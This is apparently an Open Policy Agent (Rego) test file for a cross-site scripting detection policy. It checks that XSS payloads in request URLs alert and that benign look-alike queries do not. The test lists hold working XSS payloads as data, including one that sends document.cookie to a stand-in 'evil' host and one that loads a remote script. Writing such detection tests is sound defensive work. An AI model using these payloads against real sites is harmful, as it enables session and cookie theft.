package sentinel.http.xss_test

import data.sentinel.http.request_test.get
import data.sentinel.http.request_test.response
import data.sentinel.http.xss

# The detection cases run against the shipped patterns in
# policies/data/http.yaml: they are what is under test. Cases that test the
# policy's logic set their own data.

test_script_tag_in_the_query_alerts if {
	xss.violation == {{
		"id": "HTTPCrossSiteScriptingAttempt",
		"severity": "info",
		"title": "Cross-site scripting attempt in an HTTP request",
		"policy": "sentinel.http.xss",
		"summary": "world 203.0.113.77 sent HTTP GET /search to shop/frontend with cross-site scripting in the query (dom_access, script_tag)",
		"description": xss.violation[_].description,
		"mitre": "T1189",
	}} with input as get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
}

test_classic_payloads_alert if {
	every target in [
		"/search?q=<script>alert(1)</script>",
		"/search?q=%253Cscript%253E",
		"/search?q=%3CSCRIPT+SRC=//evil/x.js%3E",
		"/search?q=<svg/onload=alert(1)>",
		"/search?q=<img+src=x+onerror=alert(1)>",
		"/search?q=%22+onmouseover=%22alert(1)",
		"/search?q='+autofocus+onfocus='alert(1)",
		"/go?url=javascript:alert(document.cookie)",
		"/go?url=JaVaScRiPt%3Aalert(1)",
		"/go?url=java%09script:alert(1)",
		"/go?url=data:text/html;base64,PHNjcmlwdD4=",
		"/search?q=%22%3E%3Ciframe+src=//evil%3E",
		"/search?q=';document.location='//evil/?c='%2Bdocument.cookie//",
		"/search?q=\\u003cscript\\u003e",
		"/search?q=%22-alert(1)-%22",
	] {
		count(xss.violation) == 1 with input as get(target)
	}
}

test_script_in_the_path_alerts if {
	some v in xss.violation with input as get("/page/%3Cscript%3Ealert(1)%3C/script%3E")
	contains(v.summary, "in the path (")
}

test_benign_look_alikes_do_not_alert if {
	every target in [
		"/search?q=a<b",
		"/search?q=%3C3+love",
		"/search?q=price+<+5",
		"/search?q=%22vintage%22+camera",
		"/search?q=levi%27s+501",
		"/search?q=javascript+tutorial",
		"/search?q=online+shop&status=online",
		"/api?filter=%22online=true%22",
		"/api?filter=%7B%22onboarding%22:%22done%22%7D",
		"/docs/events?name=onload",
		"/api/v1/query?query=rate(x%5B5m%5D)+%3C+0.5",
		"/search?q=shoes&utm_source=google&utm_medium=cpc&utm_campaign=brand_eu",
	] {
		count(xss.violation) == 0 with input as get(target)
	}
}

test_keywords_trigger_the_patterns if {
	count(xss.violation) == 1 with input as get("/go?url=vbscript:msgbox")
	count(xss.violation) == 0 with input as get("/go?url=vbscript:msgbox")
		with data.data.http.xss_keywords as []
}

test_no_alert_on_the_response if {
	count(xss.violation) == 0 with input as response(get("/search?q=<script>alert(1)</script>"))
}
